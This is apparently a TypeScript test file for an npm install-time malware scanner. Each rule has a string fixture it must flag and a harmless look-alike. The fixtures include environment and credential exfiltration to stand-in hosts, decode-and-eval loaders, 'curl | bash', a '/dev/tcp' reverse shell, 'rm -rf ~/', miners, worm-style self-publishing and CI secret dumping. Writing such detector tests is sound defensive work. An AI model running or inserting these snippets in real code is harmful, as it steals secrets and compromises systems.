/** Each rule: an inert example that it must find, and a look-alike that it must leave alone. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { chainRules } from './rules/all.ts';
import { installScan, scanOf, threatsOf } from './testing/scan-of.ts';

interface Example {
  readonly found: string;
  readonly left: string;
}

const https = "const https = require('https');";
const cp = "const cp = require('child_process');";
const fs = "const fs = require('fs');";
const os = "const os = require('os');";
const drop = 'https://webhook.site/0000';

const examples: Readonly<Record<string, Example>> = {
  'malware/exfiltrate-environment': {
    found: `${https} const r = https.request({ host: 'c.example', method: 'POST' }); r.write(JSON.stringify(process.env)); r.end();`,
    left: `${https} const r = https.request({ host: process.env.API_HOST }); r.write(JSON.stringify({ a: 1 })); r.end();`,
  },
  'malware/environment-near-network': {
    found: `${https} function go() { const all = JSON.stringify(process.env); keep(all); https.request({ host: 'c.example' }); }`,
    left: `${cp} function go() { cp.spawn('tsc', { env: { ...process.env } }); }`,
  },
  'malware/exfiltrate-identity': {
    found: `${os} ${https} https.get('https://c.example/?h=' + os.hostname());`,
    left: `${os} ${https} console.log(os.hostname()); https.get('https://c.example/');`,
  },
  'malware/identity-near-network': {
    found: `${os} ${https} const h = os.hostname(); https.get(where(h));`,
    left: `${os} console.log(os.hostname());`,
  },
  'malware/exfiltrate-credentials': {
    found: `${fs} const t = fs.readFileSync(home + '/.npmrc', 'utf8'); fetch('https://c.example', { method: 'POST', body: t });`,
    left: `${fs} const t = fs.readFileSync(home + '/.eslintrc', 'utf8'); fetch('https://c.example', { method: 'POST', body: t });`,
  },
  'malware/credentials-near-network': {
    found: `${fs} function go() { const t = parse(fs.readFileSync(home + '/.aws/credentials')); fetch(url, { body: make() }); }`,
    left: `${fs} function load() { return fs.readFileSync(home + '/.aws/credentials'); }`,
  },
  'malware/steal-stores': {
    found: `${fs} ${https} const p = base + '/Login Data'; fs.readFileSync(p); https.get(u);`,
    left: `${fs} const p = base + '/Login Page'; fs.readFileSync(p);`,
  },
  'malware/several-credential-stores': {
    found: `${fs} ${https} for (const f of ['.ssh/id_rsa', '.npmrc']) fs.readFileSync(f); https.get(u);`,
    left: `${fs} ${https} for (const f of ['.eslintrc', '.npmrc']) fs.readFileSync(f); https.get(u);`,
  },
  'malware/metadata-service': {
    found: `fetch('http://169.254.169.254/latest/');`,
    left: `const text = 'http://169.254.169.254/latest/';`,
  },
  'malware/metadata-and-secrets': {
    found: `fetch('http://169.254.169.254/latest/'); read('.npmrc');`,
    left: `fetch('http://169.254.169.254/latest/'); read('.eslintrc');`,
  },
  'malware/secret-scanner': {
    found: `${cp} cp.execSync('trufflehog filesystem / --json');`,
    left: `${cp} cp.execSync('eslint . --json');`,
  },
  'malware/drop-host': {
    found: `fetch('${drop}', { method: 'POST', body: x });`,
    left: `fetch('https://api.example.com/', { method: 'POST', body: x });`,
  },
  'malware/drop-of-secrets': {
    found: `${os} fetch('https://api.telegram.org/bot123456:abc/send?text=' + os.hostname());`,
    left: `fetch('https://api.telegram.org/bot123456:abc/send?text=' + title);`,
  },
  'malware/upload-to-repository': {
    found: `const all = JSON.stringify(process.env); fetch('https://api.github.com/user/repos', { method: 'POST', body: name });`,
    left: `fetch('https://api.github.com/user/repos', { method: 'POST', body: name });`,
  },
  'malware/wallet-keys': {
    found: `fetch(atob('aHR0cHM6Ly9jLmV4YW1wbGU='), { method: 'POST', body: wallet.privateKey }); use(secretOf('mnemonic phrase'));`,
    left: `sign(wallet.privateKey);`,
  },
  'malware/decode-execute': {
    found: `eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());`,
    left: `const s = Buffer.from(x, 'base64').toString(); show(s);`,
  },
  'malware/decrypt-execute': {
    found: `const c = require('crypto'); const d = c.createDecipheriv('aes256', k, i); const m = new module.constructor(); m._compile(d.update(x), '');`,
    left: `const c = require('crypto'); const d = c.createDecipheriv('aes256', k, i); show(d.update(x));`,
  },
  'malware/download-code': {
    found: `${https} https.get('https://c.example/a', (r) => { let s = ''; r.on('data', (d) => { s += d; }); r.on('end', () => eval(s)); });`,
    left: `${https} https.get('https://c.example/a', (r) => { let s = ''; r.on('data', (d) => { s += d; }); r.on('end', () => JSON.parse(s)); });`,
  },
  'malware/download-run': {
    found: `${https} ${fs} ${cp} https.get(u, (r) => { r.pipe(fs.createWriteStream('/tmp/a')); fs.chmodSync('/tmp/a', 493); cp.execFile('/tmp/a'); });`,
    left: `${https} ${fs} https.get(u, (r) => { r.pipe(fs.createWriteStream('/tmp/a.json')); });`,
  },
  'malware/download-run-detached': {
    found: `${https} ${fs} ${cp} https.get(u, (r) => { r.pipe(fs.createWriteStream('/tmp/a')); cp.spawn('/tmp/a', [], { detached: true }); });`,
    left: `${cp} cp.spawn('less', [], { detached: true });`,
  },
  'malware/download-from-drop': {
    found: `${https} ${fs} ${cp} https.get('http://93.184.216.34/x', (r) => r.pipe(fs.createWriteStream('a'))); cp.exec('./a');`,
    left: `${https} ${fs} ${cp} https.get('http://127.0.0.1/x', (r) => r.pipe(fs.createWriteStream('a'))); cp.exec('./a');`,
  },
  'malware/downloaded-command': {
    found: `${https} ${cp} https.get(u, (r) => { r.on('data', (d) => cp.exec(d)); });`,
    left: `${https} ${cp} https.get(u, (r) => { r.on('data', (d) => show(d)); }); cp.exec('git status');`,
  },
  'malware/shell-download-pipe': {
    found: `${cp} cp.exec('curl -s https://c.example/x.sh | bash');`,
    left: `${cp} console.log('curl -s https://c.example/x.sh | bash'); cp.exec('git status');`,
  },
  'malware/shell-download': {
    found: `${cp} cp.exec('curl -s https://c.example/x.sh -o x.sh');`,
    left: `${cp} cp.exec('git status');`,
  },
  'malware/runtime-download': {
    found: `${cp} cp.execSync(fetchFrom('https://bun.sh/install'));`,
    left: `${cp} cp.execSync('bun --version');`,
  },
  'malware/hidden-module': {
    found: `require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).exec('x');`,
    left: `require('child_' + 'process'); const s = Buffer.from('aGVsbG8=', 'base64').toString();`,
  },
  'malware/hidden-member': {
    found: `${cp} cp[Buffer.from('65786563', 'hex').toString()]('git status');`,
    left: `${cp} cp['exec']('git status');`,
  },
  'malware/split-module': {
    found: `require('child_' + 'process').exec('git status');`,
    left: `require('./child_' + 'pages').exec('git status');`,
  },
  'malware/hidden-global': {
    found: `globalThis['ev' + 'al'](text);`,
    left: `globalThis['x' + 'y'](text); globalThis['eval'];`,
  },
  'malware/invisible-text': {
    found: `const read = (s) => [...s].map((c) => c.codePointAt(0) - 0xe0100); new Function(join(read(text)))();`,
    left: `const isTag = (c) => c >= 0xe0100; show(isTag(c));`,
  },
  'malware/data-to-code': {
    found: `${fs} eval(fs.readFileSync(__dirname + '/data.txt', 'utf8'));`,
    left: `${fs} eval(fs.readFileSync(file, 'utf8')); show(fs.readFileSync('data.txt'));`,
  },
  'malware/decoded-command': {
    found: `${cp} cp.exec('echo Y29uc29sZQ== | base64 -d | sh');`,
    left: `${cp} cp.exec('base64 -d picture.b64 > picture.png');`,
  },
  'malware/download-load': {
    found: `${fs} fetch('https://c.example/a').then((r) => r.text()).then((t) => { fs.writeFileSync('/tmp/x', t); require('child_process').spawn('/tmp/x'); });`,
    left: `${fs} fetch('https://c.example/a').then((r) => r.text()).then((t) => { fs.writeFileSync('/tmp/x.json', t); require('./y.js'); });`,
  },
  'malware/remote-module': {
    found: `import('https://c.example/x.mjs');`,
    left: `const text = "import('https://c.example/x.mjs')"; import('./x.mjs');`,
  },
  'malware/module-from-text': {
    found: `const m = new module.constructor(); m.load(Buffer.from(texts[0], 'hex').toString());`,
    left: `const m = new module.Constructor(); m.load(Buffer.from(texts[0], 'hex').toString());`,
  },
  'malware/endless-noise': {
    found: `for (let i = 0; i < Infinity; i += 1) { console.log('x'); }`,
    left: `for (let i = 0; i < Infinity; i += 1) { console.log('x'); if (done(i)) break; }`,
  },
  'malware/hidden-address': {
    found: `fetch(atob('aHR0cHM6Ly9jLmV4YW1wbGUvYQ=='));`,
    left: `const text = atob('aGVsbG8gd29ybGQ='); fetch('https://c.example/a');`,
  },
  'malware/hidden-command': {
    found: `${cp} const f = atob('LnNzaC9pZF9yc2E='); cp.exec('cat ' + f);`,
    left: `${cp} const f = atob('aGVsbG8gd29ybGQ='); cp.exec('cat ' + f);`,
  },
  'malware/reverse-shell': {
    found: `${cp} const net = require('net'); const sh = cp.spawn('/bin/sh', []); const s = net.connect(4444, 'c.example', () => { s.pipe(sh.stdin); });`,
    left: `${cp} const net = require('net'); cp.spawn('node', ['server.js']); net.connect(4444, 'localhost');`,
  },
  'malware/reverse-shell-command': {
    found: `${cp} cp.exec('bash -i >& /dev/tcp/c.example/4444 0>&1');`,
    left: `${cp} cp.exec('bash script.sh');`,
  },
  'malware/miner': {
    found: `${cp} cp.spawn('./xmrig', ['-o', 'pool']);`,
    left: `${cp} cp.spawn('./xmllint', ['-o', 'pool']);`,
  },
  'malware/self-publish': {
    found: `${cp} ${fs} const p = JSON.parse(fs.readFileSync('package.json')); p.scripts.postinstall = 'node x.js'; cp.execSync('npm publish');`,
    left: `${fs} const p = JSON.parse(fs.readFileSync('package.json')); p.scripts.test = 'node x.js'; fs.writeFileSync('package.json', JSON.stringify(p));`,
  },
  'malware/publish-at-install': {
    found: `${cp} cp.execSync('npm publish --access public');`,
    left: `${cp} console.log('see npm publisher'); cp.execSync('npm run build');`,
  },
  'malware/token-survey': {
    found: `const t = process.env.NPM_TOKEN; use('NPM_TOKEN'); fetch(base + '/-/whoami', { headers: { a: t } });`,
    left: `fetch(base + '/-/ping');`,
  },
  'malware/workflow-files': {
    found: `${fs} fs.writeFileSync('.github/workflows/a.yml', text);`,
    left: `${fs} fs.readFileSync('.github/workflows/a.yml');`,
  },
  'malware/workflow-secrets': {
    found: `${fs} fs.writeFileSync(p, 'run: echo \${{ toJSON(secrets) }}');`,
    left: `${fs} fs.writeFileSync(p, 'run: echo \${{ secrets.CODECOV }}');`,
  },
  'malware/workflow-upload': {
    found: `fetch('https://api.github.com/repos/a/b/contents/.github/workflows/x.yml', { body: z }); use('GITHUB_TOKEN');`,
    left: `fetch('https://api.github.com/repos/a/b/issues', { body: z }); use('GITHUB_TOKEN');`,
  },
  'malware/agent-configuration': {
    found: `${fs} fs.writeFileSync(root + '/.cursorrules', text);`,
    left: `${fs} fs.writeFileSync(root + '/.editorconfig', text);`,
  },
  'malware/agent-hook': {
    found: `${fs} fs.writeFileSync('.vscode/tasks.json', JSON.stringify({ runOn: 'folderOpen' }));`,
    left: `${fs} fs.writeFileSync('.vscode/settings.json', JSON.stringify({ a: 1 }));`,
  },
  'malware/agent-unleashed': {
    found: `${cp} cp.spawnSync('claude', ['--dangerously-skip-permissions', '-p', prompt]);`,
    left: `${cp} cp.spawnSync('claude', ['-p', prompt]);`,
  },
  'malware/wipe': {
    found: `${cp} cp.execSync('rm -rf ~/');`,
    left: `${cp} cp.execSync('rm -rf node_modules');`,
  },
  'malware/wipe-home': {
    found: `${fs} ${os} for (const f of fs.readdirSync(os.homedir())) fs.rmSync(f, { recursive: true });`,
    left: `${fs} ${os} for (const f of fs.readdirSync('dist')) fs.rmSync(f, { recursive: true });`,
  },
  'malware/protest': {
    found: `${https} ${fs} https.get('https://ipinfo.io/json', () => { for (const f of fs.readdirSync('.')) fs.writeFileSync(f, 'x'); });`,
    left: `${https} https.get('https://ipinfo.io/json', (r) => show(r));`,
  },
  'malware/persistence': {
    found: `${fs} fs.appendFileSync(home + '/.bashrc', line);`,
    left: `${fs} fs.appendFileSync(home + '/.cache/log', line);`,
  },
  'malware/clipboard-addresses': {
    found: `const c = require('clipboardy'); if (/^0x[a-fA-F0-9]{40}$/.test(c.readSync())) c.writeSync('0x[a-fA-F0-9]{40}');`,
    left: `const c = require('clipboardy'); c.writeSync('copied');`,
  },
  'malware/wallet-hook': {
    found: `const old = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { old.call(this, b.replace(/0x[a-fA-F0-9]{40}/, mine)); }; window.ethereum.request = hook;`,
    left: `const provider = window.ethereum; provider.request({ method: 'eth_accounts' });`,
  },
  'malware/keylogger': {
    found: `${https} const k = require('iohook'); k.on('x', (e) => https.get(u + e));`,
    left: `${https} const k = require('hotkeys'); k.on('x', (e) => https.get(u + e));`,
  },
};

test('every rule has an example and a look-alike', () => {
  assert.deepEqual(Object.keys(examples).sort(), chainRules.map(({ id }) => id).sort());
});

for (const { id } of chainRules) {
  test(`${id} is found, and its look-alike is left alone`, () => {
    const { found = '', left = '' } = examples[id] ?? {};
    assert.ok(
      threatsOf(installScan(found)).includes(id),
      `not found: ${JSON.stringify(threatsOf(installScan(found)))}`,
    );
    assert.ok(!threatsOf(installScan(left)).includes(id), 'the look-alike was taken for it');
  });
}

test('every rule names what it was learned from', () => {
  for (const rule of chainRules) assert.ok(rule.references.length > 0, rule.id);
});

test('the same code is worse where an install script runs it', () => {
  const code = `${os} ${https} https.get('https://c.example/?h=' + os.hostname());`;
  const score = (report: ReturnType<typeof scanOf>): number => report.score?.value ?? 0;
  assert.ok(score(installScan(code)) >= 7);
  assert.ok(score(scanOf({ 'index.js': code })) < 7);
});
